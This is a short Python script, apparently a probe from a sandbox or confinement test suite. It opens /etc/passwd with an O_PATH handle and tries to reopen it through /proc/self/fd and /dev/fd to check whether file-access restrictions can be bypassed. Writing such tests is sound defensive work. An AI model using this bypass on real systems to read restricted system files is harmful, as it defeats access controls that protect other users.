"""Takes a mere handle of a forbidden file (O_PATH), which anybody may, and opens that anew."""

import contextlib
import os


def attack():
    handle = os.open("/etc/passwd", os.O_PATH)
    with contextlib.suppress(OSError):
        if os.read(handle, 5):
            return True
    for path in (f"/proc/self/fd/{handle}", f"/dev/fd/{handle}"):
        with contextlib.suppress(OSError), open(path) as file:
            return "root:" in file.read()
    return False
